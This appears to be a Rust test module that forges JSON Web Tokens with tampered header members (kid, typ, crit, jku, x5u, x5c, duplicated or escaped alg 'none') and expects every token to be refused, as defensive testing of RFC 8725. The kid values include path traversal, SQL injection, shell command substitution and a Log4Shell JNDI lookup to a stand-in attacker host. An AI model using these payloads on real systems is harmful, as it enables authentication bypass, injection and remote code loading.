//! Members of a token's header that name or carry another key, or ask for another treatment (RFC 8725 §2.8 to §2.10,
//! §3.11).

use serde_json::{Value, json};

use super::forge::{Forge, encode};
use super::wire::Attack;

/// What has another `kid`, another `typ`, or more members.
pub fn table(forge: &Forge) -> Vec<Attack> {
    let (kid, header, claims) = (&forge.jwk.kid, forge.header.to_string(), forge.claims.to_string());
    let own = forge.own_key(kid).1;
    let mut all = Vec::new();
    for other in [
        json!("../../../../../../dev/null"),
        json!("/proc/sys/kernel/randomize_va_space"),
        json!("' UNION SELECT 'AAAA' -- "),
        json!("1; DROP TABLE keys"),
        json!("https://evil.example/jwks.json"),
        json!("arn:aws:kms:eu-central-1:123456789012:key/1234abcd"),
        json!("$(touch /tmp/x)"),
        json!("${jndi:ldap://evil.example/x}"),
        json!(""),
        json!("*"),
        json!("0"),
        json!(0),
        json!("k".repeat(1500)),
        json!(kid.to_lowercase()),
        json!(format!("{kid}\0")),
        json!(format!(" {kid}")),
        json!([kid]),
        json!({"kid": kid}),
        Value::Null,
    ] {
        let shown: String = other.to_string().chars().take(60).collect();
        all.push(Attack::bearer(403, format!("kid {shown}"), &forge.header_with("kid", other)));
    }
    for other in [
        json!("JWT"),
        json!("jwt"),
        json!("AT+JWT"),
        json!("application/at+jwt"),
        json!("at"),
        json!("refresh+jwt"),
        json!("rt+jwt"),
        json!("ID"),
        json!("id_token"),
        json!("logout+jwt"),
        json!("dpop+jwt"),
        json!("secevent+jwt"),
        json!("JOSE"),
        json!(""),
        json!(["at+jwt"]),
        Value::Null,
    ] {
        all.push(Attack::bearer(403, format!("typ {other}"), &forge.header_with("typ", other)));
    }
    let with = |name: &str, value: Value| {
        let token = forge.header_with(name, value.clone());
        Attack::bearer(403, format!("a well signed {name}: {value}"), &token)
    };
    all.extend([
        with("crit", json!(["exp"])),
        with("crit", json!(["b64"])),
        with("crit", json!([])),
        with("b64", json!(false)),
        with("b64", json!(true)),
        with("zip", json!("DEF")),
        with("enc", json!("A128GCM")),
        with("cty", json!("JWT")),
        with("epk", json!({})),
        with("iss", json!("urn:portico:portico")),
        with("x", json!("y")),
    ]);
    let mine =
        |name: &str, value: Value| Attack::bearer(403, format!("{name} of a forger"), &forge.self_signed(name, value));
    all.extend([
        mine("jwk", serde_json::to_value(&own).expect("JSON")),
        mine("jku", json!("https://evil.example/jwks.json")),
        mine("x5u", json!("https://evil.example/chain.pem")),
        mine("x5c", json!([encode([0x30; 100])])),
        mine("x5t", json!(encode([0; 20]))),
        mine("x5t#S256", json!(encode([0; 32]))),
        mine("kid", json!("the forger's")),
    ]);
    let unknown: String = header.replace(&format!(r#","kid":"{kid}""#), "").replace(&format!(r#""kid":"{kid}","#), "");
    let twice = |member: &str| header.replacen('{', &format!("{{{member},"), 1);
    all.extend([
        Attack::bearer(403, "no kid", &forge.sign(unknown, &claims)),
        Attack::bearer(403, "kid twice", &forge.sign(twice(&format!(r#""kid":"{kid}""#)), &claims)),
        Attack::bearer(403, "kid twice, first another's", &forge.sign(twice(r#""kid":"x""#), &claims)),
        Attack::bearer(403, "alg twice, first none", &forge.sign(twice(r#""alg":"none""#), &claims)),
        Attack::bearer(403, "alg twice, once escaped", &forge.sign(twice(r#""\u0061lg":"none""#), &claims)),
        Attack::bearer(403, "alg in another case as well", &forge.sign(twice(r#""ALG":"none""#), &claims)),
        Attack::bearer(403, "a header that is empty", &forge.sign("{}", &claims)),
        Attack::bearer(
            403,
            "a header that is a list of its values",
            &forge.sign(format!(r#"["ES256","at+jwt","{kid}"]"#), &claims),
        ),
    ]);
    all
}
